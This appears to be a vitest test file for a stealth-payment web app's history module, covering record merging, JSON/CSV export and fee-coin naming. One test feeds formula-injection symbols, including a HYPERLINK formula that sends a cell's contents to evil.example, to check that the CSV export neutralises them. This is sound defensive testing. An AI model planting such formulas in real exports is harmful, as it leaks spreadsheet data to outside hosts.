/**
 * The recipient's history as the Scan page keeps and exports it (app/(web)/_lib/history.ts): a
 * payment's unit learned later is merged in without losing what the scan knew, and the CSV export
 * survives whatever a failure's reason holds (commas, quotes, line breaks).
 */
import { describe, expect, it } from 'vitest';
import { EMPTY_HISTORY, feeCoinOf, historyCsv, historyJson, upsertPayment, withWithdrawal, type PaymentRecord } from '../../app/(web)/_lib/history.ts';
import { noteAmountText } from '../../app/(web)/_lib/amount.ts';

const scanned: PaymentRecord = {
  announcementId: 7,
  chainId: 31337,
  stealthAddress: '0x00000000000000000000000000000000000000aa',
  date: '2026-11-27T09:00:00.000Z',
  amount: '100000000000000000000',
  asset: null,
  symbol: null,
  decimals: null,
  paymentTx: `0x${'11'.repeat(32)}`,
  announcementTx: `0x${'22'.repeat(32)}`,
};

describe('the history of the web app', () => {
  it('merges a payment found again: the unit a chain read named is kept, a later scan does not erase it', () => {
    const withUnit = upsertPayment(upsertPayment(EMPTY_HISTORY, scanned), { ...scanned, asset: '0x00000000000000000000000000000000000000bb', symbol: 'TST', decimals: 18 });
    const rescanned = upsertPayment(withUnit, scanned);
    expect(rescanned).toBe(withUnit); // nothing new: the same object, no write
    expect(rescanned.payments).toHaveLength(1);
    expect(rescanned.payments[0]).toMatchObject({ symbol: 'TST', decimals: 18, amount: scanned.amount });
    expect(noteAmountText(rescanned.payments[0]!.amount!, { symbol: 'TST', decimals: 18 })).toBe('100 TST');
    // Until a unit is known: no protocol words; a token the lists do not name is shown by its address.
    expect(noteAmountText('500000000000000000', null)).toBe('500000000000000000 (in the smallest units of an asset shown once its balance is read)');
    expect(noteAmountText('100', null, '0x00000000000000000000000000000000000000bb')).toBe('100 units of the token 0x00000000000000000000000000000000000000bb');
    expect(noteAmountText('500000000000000000', null, 'native')).not.toMatch(/base units/);
  });

  it('exports JSON and CSV that say the same, with a failure reason of commas, quotes and line breaks intact', () => {
    const subject = { announcementId: 7, chainId: 31337, stealthAddress: scanned.stealthAddress, destination: '0x00000000000000000000000000000000000000cc', asset: 'native', symbol: 'ETH', decimals: 18 };
    let history = upsertPayment(EMPTY_HISTORY, scanned);
    history = withWithdrawal(history, subject, { error: 'holds 0 wei, and "the fee"\nneeds 21000 wei' });
    history = withWithdrawal(history, subject, { hash: `0x${'33'.repeat(32)}`, amount: 5n, feePaid: 21_000n, feeBound: 21_000n, feeKind: 'exact' });
    const json = JSON.parse(historyJson(history)) as { withdrawals: { error: string | null; feePaid: string | null }[] };
    const csv = historyCsv(history);
    expect(csv.split('\r\n')[0]).toBe('type,date,chain_id,announcement_id,stealth_address,asset,symbol,decimals,amount,destination,status,fee_paid,fee_bound,fee_kind,tx_hash,payment_tx,announcement_tx,error');
    expect(csv).toContain('"holds 0 wei, and ""the fee""\nneeds 21000 wei"');
    expect(json.withdrawals.map((w) => [w.error, w.feePaid])).toEqual([
      ['holds 0 wei, and "the fee"\nneeds 21000 wei', null],
      [null, '21000'],
    ]);
    expect(csv.trimEnd().split('\r\n')).toHaveLength(4); // header, the payment, the failure (one record over two lines), the withdrawal
  });

  it('names the fees of a tokens-only withdrawal in the chain\'s coin, not the token and not always ETH', () => {
    const tokensOn = (chainId: number) =>
      withWithdrawal(upsertPayment(EMPTY_HISTORY, { ...scanned, chainId }), { announcementId: 7, chainId, stealthAddress: scanned.stealthAddress, destination: '0x00000000000000000000000000000000000000cc', asset: '0x00000000000000000000000000000000000000bb', symbol: 'TST', decimals: 18 }, { hash: `0x${'33'.repeat(32)}`, amount: 5n, feePaid: 1n, feeBound: 2n, feeKind: 'maximum' }).withdrawals;
    expect(feeCoinOf(tokensOn(137))).toBe('POL');
    expect(feeCoinOf(tokensOn(100))).toBe('XDAI');
    expect(feeCoinOf(tokensOn(8453))).toBe('ETH');
  });

  it('opens a payer-chosen formula as text in a spreadsheet: a token symbol of =, +, - or @ gets an apostrophe', () => {
    for (const symbol of ['=HYPERLINK("https://evil.example/?"&B2,"x")', '+1', '-1', '@SUM(A1)', '\t=1']) {
      const history = upsertPayment(EMPTY_HISTORY, { ...scanned, symbol });
      const row = historyCsv(history).split('\r\n')[1]!;
      expect(row).toContain(`'${symbol.startsWith('=HYPERLINK') ? symbol.replaceAll('"', '""') : symbol}`);
      expect(row).not.toMatch(new RegExp(`,"?[=+\\-@\\t]`));
    }
    expect(historyCsv(upsertPayment(EMPTY_HISTORY, { ...scanned, symbol: 'TST' })).split('\r\n')[1]).toContain(',TST,');
  });
});
